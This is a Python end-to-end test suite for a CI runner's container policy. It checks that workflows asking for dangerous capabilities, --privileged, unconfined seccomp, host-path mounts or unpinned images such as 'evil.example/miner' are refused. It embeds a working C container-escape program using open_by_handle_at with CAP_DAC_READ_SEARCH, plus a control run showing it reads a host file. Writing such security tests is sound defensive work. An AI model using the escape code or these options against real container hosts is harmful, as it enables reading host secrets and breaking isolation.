#!/usr/bin/env python3
"""Hostile workflows against the runner's container policy, with runnerctl exec and the real
engine: capabilities (an open_by_handle_at escape built here with gcc -static reads a host
file only when a label allows DAC_READ_SEARCH; --cap-add DAC_READ_SEARCH, SYS_ADMIN and ALL and
--security-opt are refused with file:line:col, on the command line and through a label config),
the capability drop floor, --entrypoint in a job container, limits that options cannot lift
(--pids-limit -1, and the 4096 default without -c), a label's pinned image against the job's
container.image (and allow_job_image), host-path volumes, and timeout-minutes that are not a
positive number of minutes."""
import ctypes
import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile

RUNNERCTL = os.environ["RUNNERCTL"]
SRCDIR = os.environ["SRCDIR"]
sys.path.insert(0, os.path.join(SRCDIR, "tests", "e2e"))
import lib  # noqa: E402  (Tally: the named checks; the test image; labelled())
T = lib.Tally(keep=3000)
check = T.check
leftovers = lib.labelled


def sh(*args):
    return subprocess.run(args, capture_output=True, text=True)


IMAGE, err = lib.test_image()
if IMAGE is None:
    print("FAIL building the busybox test image: " + err)
    sys.exit(1)
IMAGE_ID = sh("docker", "image", "inspect", "-f", "{{.Id}}", IMAGE).stdout.strip()
left_behind = []


def run(ws, wf, *args):
    """runnerctl exec of workflow text wf with workspace ws; (rc, stdout+stderr)."""
    path = os.path.join(os.path.dirname(ws), "wf.yml")
    with open(path, "w") as f:
        f.write(wf)
    p = subprocess.Popen([RUNNERCTL, "exec", "-C", ws, *args, path], stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, text=True)
    try:
        out, _ = p.communicate(timeout=150)
    except subprocess.TimeoutExpired:  # a hang is a failure, never a stuck test
        p.send_signal(signal.SIGINT)
        try:
            out, _ = p.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            p.kill()
            out, _ = p.communicate()
        out = "TIMEOUT (runnerctl hung)\n" + (out or "")
    left_behind.extend(leftovers("io.runnerd.owner=%s:%d" % (os.uname().nodename, p.pid)))
    return p.returncode, out


def config(tmp, labels):
    """A config.yaml whose runnerd.labels are labels (name -> settings lines)."""
    path = os.path.join(tmp, "config.yaml")
    with open(path, "w") as f:
        f.write("runnerd:\n  labels:\n")
        for name, lines in labels.items():
            f.write("    %s:\n" % name)
            for line in lines:
                f.write("      %s\n" % line)
    return path


# The escape: with CAP_DAC_READ_SEARCH, open_by_handle_at() opens any inode of a filesystem
# given any fd on it (here the bind-mounted workspace), whatever the container's mounts hide.
ESCAPE_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct file_handle *h = calloc(1, sizeof *h + 128);
    unsigned char *p = h->f_handle;
    const char *hex = argv[2];
    char buf[256];
    int mnt, fd;
    ssize_t n;

    if (argc != 3)
        return 2;
    h->handle_type = atoi(argv[1]);
    for (; hex[0] && hex[1]; hex += 2) {
        unsigned v;
        sscanf(hex, "%2x", &v);
        *p++ = (unsigned char)v;
    }
    h->handle_bytes = (unsigned)(p - h->f_handle);
    mnt = open("/workspace", O_RDONLY | O_DIRECTORY);
    fd = open_by_handle_at(mnt, h, O_RDONLY);
    if (fd < 0) {
        perror("escape: open_by_handle_at");
        return 1;
    }
    n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("escape read: %s\n", buf);
    return 0;
}
"""


def handle_of(path):
    """The host's file handle of path (name_to_handle_at): (type, hex bytes)."""
    class FH(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int),
                    ("data", ctypes.c_ubyte * 128)]
    libc = ctypes.CDLL(None, use_errno=True)
    fh = FH(bytes=128)
    mnt = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(fh), ctypes.byref(mnt), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at " + path)
    return fh.type, bytes(fh.data[:fh.bytes]).hex()


def escape_wf(options):
    return """on: push
jobs:
  esc:
    runs-on: builder
    container:
      image: %s
      options: %s
    steps:
      - run: ./escape $(cat handle.txt)
""" % (IMAGE, options)


with tempfile.TemporaryDirectory() as tmp:
    ws = os.path.join(tmp, "ws")
    secret_dir = os.path.join(tmp, "host-only")
    os.makedirs(ws)
    os.makedirs(secret_dir)
    marker = "host-marker-" + secrets.token_hex(8)
    with open(os.path.join(secret_dir, "marker"), "w") as f:
        f.write(marker + "\n")
    with open(os.path.join(tmp, "escape.c"), "w") as f:
        f.write(ESCAPE_C)
    cc = sh("gcc", "-static", "-O1", "-o", os.path.join(ws, "escape"), os.path.join(tmp, "escape.c"))
    check("the escape program builds (gcc -static)", cc.returncode == 0, cc.stderr)
    htype, hhex = handle_of(os.path.join(secret_dir, "marker"))
    with open(os.path.join(ws, "handle.txt"), "w") as f:
        f.write("%d %s\n" % (htype, hhex))
    label = ["-l", "builder=docker://" + IMAGE]

    # 1. --cap-add DAC_READ_SEARCH from the workflow: refused before anything runs.
    rc, out = run(ws, escape_wf("--cap-add DAC_READ_SEARCH"), "--bind", *label)
    check("cap-add DAC_READ_SEARCH refused (exit 2)", rc == 2, out)
    check("cap-add DAC_READ_SEARCH: file:line:col and the capability",
          "wf.yml:7:16: jobs.esc.container.options: --cap-add DAC_READ_SEARCH is not allowed" in out, out)
    check("cap-add DAC_READ_SEARCH: the marker was not read", marker not in out, out)
    for opt, what in (("--cap-add SYS_ADMIN", "--cap-add SYS_ADMIN is not allowed"),
                      ("--cap-add=ALL", "--cap-add ALL is not allowed"),
                      ("--cap-add cap_sys_ptrace", "--cap-add SYS_PTRACE is not allowed"),
                      ("--security-opt seccomp=unconfined", "option '--security-opt' is not allowed"),
                      ("--security-opt=apparmor=unconfined", "option '--security-opt' is not allowed"),
                      ("--privileged", "option '--privileged' is not allowed"),
                      ("--entrypoint /bin/sh", "option '--entrypoint' is not allowed in a job container"),
                      ("--workdir /nonexistent", "option '--workdir' is not allowed in a job container")):
        rc, out = run(ws, escape_wf(opt), *label)
        check("%s refused at load with file:line:col" % opt,
              rc == 2 and ("wf.yml:7:16: jobs.esc.container.options: " + what) in out, out)
    # Services: the same capability rule, and --security-opt.
    svc = """on: push
jobs:
  s:
    runs-on: builder
    services:
      db:
        image: %s
        options: %%s
    steps:
      - run: echo never
""" % IMAGE
    for opt, what in (("--cap-add SYS_ADMIN", "--cap-add SYS_ADMIN is not allowed"),
                      ("--security-opt label=disable", "option '--security-opt' is not allowed")):
        rc, out = run(ws, svc % opt, *label)
        check("services: %s refused at load with file:line:col" % opt,
              rc == 2 and ("wf.yml:8:18: jobs.s.services.db.options: " + what) in out
              and "never" not in out, out)
    # An expression is checked when the job starts, with its position.
    rc, out = run(ws, escape_wf("${{ format('--cap-add {0}', 'DAC_READ_SEARCH') }}"), "--bind", *label)
    check("cap-add from an expression: job fails, file:line:col",
          rc == 1 and "wf.yml:7:16: container.options: --cap-add DAC_READ_SEARCH is not allowed" in out
          and marker not in out, out)

    # 2. A label that allows nothing: the program runs in the job and cannot read the marker.
    rc, out = run(ws, escape_wf("--cpus 1"), "--bind", *label)
    check("no capability added: the escape fails inside the job",
          rc == 1 and "escape: open_by_handle_at" in out and marker not in out, out)

    # 3. Through a label config: cap_add is the operator's allow-list, per label.
    cfg = config(tmp, {"builder": ["image: " + IMAGE, "cap_add: [NET_ADMIN]"]})
    for opt in ("--cap-add DAC_READ_SEARCH", "--cap-add SYS_ADMIN", "--cap-add ALL"):
        rc, out = run(ws, escape_wf(opt), "--bind", "-c", cfg)
        check("label allowing NET_ADMIN: %s refused" % opt,
              rc == 2 and "is not allowed" in out and marker not in out, out)
    rc, out = run(ws, escape_wf("--cap-add NET_ADMIN"), "--bind", "-c", cfg)
    check("label allowing NET_ADMIN: --cap-add NET_ADMIN runs", rc == 1 and "escape:" in out
          and marker not in out, out)
    # The positive control: the escape works on this host when an operator opens it (so the
    # refusals above are what stands between a workflow and the host's files).
    cfg = config(tmp, {"builder": ["image: " + IMAGE, "cap_add: [DAC_READ_SEARCH]"]})
    rc, out = run(ws, escape_wf("--cap-add DAC_READ_SEARCH"), "--bind", "-c", cfg)
    check("control: a label with cap_add [DAC_READ_SEARCH] lets the escape read the host file",
          rc == 0 and ("escape read: " + marker) in out, out)

    # 4. The capability drop floor: NET_RAW, MKNOD, AUDIT_WRITE are gone from the job container
    # (CapBnd bit 13 NET_RAW, 27 MKNOD, 29 AUDIT_WRITE), also without -c; a config moves it.
    capwf = """on: push
jobs:
  c:
    runs-on: builder
    container:
      image: %s
    steps:
      - run: grep CapBnd /proc/self/status
      - run: echo "pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)"
""" % IMAGE

    def capbnd(out):
        for line in out.splitlines():
            if "CapBnd:" in line:
                return int(line.strip()[-16:], 16)
        return None
    rc, out = run(ws, capwf, *label)
    b = capbnd(out)
    check("drop floor by default (no -c)", rc == 0 and b is not None and
          not b & (1 << 13) and not b & (1 << 27) and not b & (1 << 29) and b & (1 << 0), out)
    check("default pids limit without -c is 4096", "pids=4096" in out, out)
    cfg = config(tmp, {"builder": ["image: " + IMAGE, "cap_drop: [CHOWN]"]})
    rc, out = run(ws, capwf, "-c", cfg)
    b = capbnd(out)
    check("a label's cap_drop replaces the floor", rc == 0 and b is not None and
          not b & (1 << 0) and b & (1 << 13), out)

    # 5. Limits have floors options cannot lift, with or without -c.
    pidwf = """on: push
jobs:
  p:
    runs-on: builder
    container:
      image: %s
      options: %%s
    steps:
      - run: echo "pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)"
""" % IMAGE
    for opt in ("--pids-limit -1", "--pids-limit=0"):
        rc, out = run(ws, pidwf % opt, *label)
        check("%s refused at load (no -c)" % opt, rc == 2 and "wf.yml:7:16: jobs.p.container.options: "
              "--pids-limit: expected a positive number of processes" in out, out)
    rc, out = run(ws, pidwf % "--pids-limit 100000", *label)
    check("--pids-limit 100000 does not lift the 4096 default (no -c)", rc == 0 and "pids=4096" in out, out)

    # 6. A label's pinned image is a policy.
    other = """on: push
jobs:
  i:
    runs-on: builder
    container:
      image: %s
    steps:
      - run: echo ran-in-job-image
"""
    cfg = config(tmp, {"builder": ["image: " + IMAGE_ID]})
    rc, out = run(ws, other % "evil.example/miner:latest", "-c", cfg)
    check("pinned label refuses another container.image",
          rc == 1 and "wf.yml:6:14: container.image: label builder runs only its pinned image" in out
          and "(allow_job_image: false): evil.example/miner:latest is not" in out
          and "ran-in-job-image" not in out, out)
    cfg = config(tmp, {"builder": ["image: " + IMAGE_ID, "allow_job_image: true"]})
    rc, out = run(ws, other % IMAGE, "-c", cfg)
    check("allow_job_image: true runs the job's image", rc == 0 and "ran-in-job-image" in out, out)
    cfg = config(tmp, {"builder": ["image: " + IMAGE_ID]})
    rc, out = run(ws, other % IMAGE_ID, "-c", cfg)
    check("the pinned image itself is fine", rc == 0 and "ran-in-job-image" in out, out)

    # 7. Host paths in volumes are refused with file:line:col.
    volwf = """on: push
jobs:
  v:
    runs-on: builder
    container:
      image: %s
      volumes:
        - %s:/host
      options: -v /:/rootfs
    steps:
      - run: cat /host/marker
""" % (IMAGE, secret_dir)
    rc, out = run(ws, volwf, *label)
    check("host-path volumes refused at load", rc == 2 and "wf.yml:8:11: jobs.v.container.volumes[0]" in out
          and "wf.yml:9:16: jobs.v.container.options: -v /:/rootfs: host paths are not allowed" in out
          and marker not in out, out)

    # 8. timeout-minutes: literals at load, expressions when evaluated.
    towf = """on: push
jobs:
  t:
    runs-on: builder
    timeout-minutes: %s
    steps:
      - run: echo step-ran
"""
    for v, what in (("-1", "expected a positive number of minutes"), ("1e9", "at most 43200 minutes"),
                    ("0", "expected a positive number of minutes")):
        rc, out = run(ws, towf % v, *label)
        check("timeout-minutes: %s refused at load" % v,
              rc == 2 and ("wf.yml:5:22: jobs.t.timeout-minutes: " + what) in out, out)
    rc, out = run(ws, towf % "${{ 'abc' }}", *label)
    check("timeout-minutes: ${{ 'abc' }} fails the job naming file:line:col",
          rc == 1 and "wf.yml:5:22: timeout-minutes: expected a positive number of minutes, got \"abc\"" in out
          and "| step-ran" not in out, out)
    stepwf = """on: push
jobs:
  t:
    runs-on: builder
    steps:
      - run: echo step-ran
        timeout-minutes: ${{ 1e9 }}
      - run: echo second-ran
"""
    rc, out = run(ws, stepwf, *label)
    check("step timeout-minutes: ${{ 1e9 }} fails the step naming file:line:col",
          rc == 1 and "wf.yml:7:26: timeout-minutes: at most 43200 minutes" in out
          and "| step-ran" not in out, out)

    # 9. Services: entrypoint: and command: are applied (they were accepted and ignored).
    svcwf = """on: push
jobs:
  s:
    runs-on: builder
    container:
      image: %s
    services:
      web:
        image: %s
        env:
          WHO: from-entrypoint
        entrypoint: /bin/sh
        command: -c "mkdir -p /www && echo svc-$WHO > /www/index.html && exec httpd -f -p 8080 -h /www"
        options: --health-cmd "wget -q -O /dev/null http://127.0.0.1:8080/" --health-interval 1s --health-retries 30
    steps:
      - run: wget -q -O - http://web:8080/
""" % (IMAGE, IMAGE)
    rc, out = run(ws, svcwf, *label)
    check("services: entrypoint and command applied", rc == 0 and "| svc-from-entrypoint" in out, out)

    # 10. Named volumes: applied everywhere (container.volumes, -v in job and service options,
    # services.*.volumes), per job (labelled, removed with it), unless the label lists them as
    # persistent; never an unlabelled volume that outlives the job.
    tag = secrets.token_hex(4)
    volwf = """on: push
jobs:
  v:
    runs-on: builder
    container:
      image: %s
      volumes: [jobdata%s:/data]
      options: -v jobopt%s:/opt2 -v /anon
    services:
      db:
        image: %s
        volumes: [svcdata%s:/shared]
        options: -v svcopt%s:/x --entrypoint /bin/sh
        command: -c "touch /x/ok && sleep 300"
    steps:
      - run: echo hi > /data/f && echo hi > /opt2/f && echo mounted=$(cat /data/f)$(cat /opt2/f)
""" % ((IMAGE,) + (tag,) * 2 + (IMAGE,) + (tag,) * 2)
    rc, out = run(ws, volwf, *label)
    check("named volumes: container.volumes and -v applied to the job container",
          rc == 0 and "| mounted=hihi" in out, out)
    stray = sh("docker", "volume", "ls", "-q", "--filter", "name=" + tag).stdout.split()
    check("named volumes: none outlives the job", stray == [], " ".join(stray))
    for v in stray:
        if tag in v:
            sh("docker", "volume", "rm", "-f", v)
    cfg = config(tmp, {"builder": ["image: " + IMAGE, "persistent_volumes: [cache%s]" % tag]})
    pwf = """on: push
jobs:
  p:
    runs-on: builder
    container:
      image: %s
      volumes: [cache%s:/cache]
    steps:
      - run: echo "before=$(cat /cache/f 2>/dev/null)"; echo kept > /cache/f
""" % (IMAGE, tag)
    rc1, out1 = run(ws, pwf, "-c", cfg)
    rc2, out2 = run(ws, pwf, "-c", cfg)
    check("persistent_volumes: kept for the label's next job",
          rc1 == 0 and "| before=" in out1 and rc2 == 0 and "| before=kept" in out2, out1 + out2)
    kept = sh("docker", "volume", "ls", "-q", "--filter", "name=" + tag).stdout.split()
    check("persistent_volumes: named after the label", kept == ["runnerd-builder-cache" + tag],
          " ".join(kept))
    for v in kept:
        if tag in v:
            sh("docker", "volume", "rm", "-f", v)


# 11. Under runnerd (the Gitea double): the same policy fails the task with file:line:col in its
# log: a pinned label refusing another image, a capability the label does not allow, a bad
# timeout-minutes; named volumes are removed with the job.
def under_runnerd():
    sys.path.insert(0, os.path.join(SRCDIR, "tests", "e2e"))
    import lib as base  # noqa: E402
    import labels  # noqa: E402
    tmp = tempfile.mkdtemp(prefix="runnerd-hostile-policy-")
    d = base.Double(tmp)
    try:
        cfg = ("runnerd:\n  fetch_interval_max: 1s\n  labels:\n    matric-builder:\n"
               "      image: %s\n      cap_add: [NET_ADMIN]\n" % IMAGE_ID)
        r = labels.Runner(d, tmp, "policy", cfg)
        r.start()
        wf = "name: CI\non: push\njobs:\n  build:\n    runs-on: matric-builder\n%s    steps:\n      - run: echo ran-%s\n"
        jobs = {
            "image": wf % ("    container:\n      image: evil.example/miner:1\n", "image"),
            "caps": wf % ("    container:\n      image: %s\n      options: --cap-add SYS_ADMIN\n" % IMAGE_ID, "caps"),
            "netadmin": wf % ("    container:\n      image: %s\n      options: --cap-add NET_ADMIN\n" % IMAGE_ID,
                              "netadmin"),
            "timeout": wf % ("    timeout-minutes: ${{ 'abc' }}\n", "timeout"),
            "volume": wf % ("    container:\n      image: %s\n      volumes: [scratch:/scratch]\n" % IMAGE_ID,
                            "volume"),
        }
        ids = {k: labels.enqueue(d, [{"run": "true"}], job="build", workflowPayload=v) for k, v in jobs.items()}
        done = {k: base.final_task(d, j, 90) for k, j in ids.items()}
        rows = {k: "\n".join(base.rows_of(t)) if t else "" for k, t in done.items()}
        st = {k: t["status"] if t else None for k, t in done.items()}
        check("runnerd: a pinned label refuses another container.image",
              st["image"] == "failure" and ":7:14: container.image: label matric-builder runs only its "
              "pinned image" in rows["image"] and "ran-image" not in rows["image"], rows["image"])
        check("runnerd: --cap-add SYS_ADMIN fails the job with file:line:col",
              st["caps"] == "failure" and ":8:16: container.options: --cap-add SYS_ADMIN is not allowed"
              in rows["caps"] and "ran-caps" not in rows["caps"], rows["caps"])
        check("runnerd: --cap-add NET_ADMIN, which the label allows, runs",
              st["netadmin"] == "success" and "ran-netadmin" in rows["netadmin"], rows["netadmin"])
        check("runnerd: timeout-minutes ${{ 'abc' }} fails the job with file:line:col",
              st["timeout"] == "failure" and ":6:22: timeout-minutes: expected a positive number of "
              "minutes" in rows["timeout"], rows["timeout"])
        check("runnerd: a named volume job runs", st["volume"] == "success", rows["volume"])
        left = base.wait_until(lambda: not r.leftovers() or None, 20, "no leftovers")
        check("runnerd: nothing left (named volumes removed with the job)", left is not None, str(r.leftovers()))
        check("runnerd exits 0", r.stop() == 0)
    finally:
        for p in labels.LIVE:
            if p.poll() is None:
                p.kill()
                p.wait()
        d.stop()
        shutil.rmtree(tmp, ignore_errors=True)


under_runnerd()

check("nothing left behind", not left_behind, " ".join(left_behind))
for obj in left_behind:
    sh("docker", "rm", "-f", "-v", obj)
    sh("docker", "network", "rm", obj)
    sh("docker", "volume", "rm", "-f", obj)
sys.exit(1 if T.failures else 0)
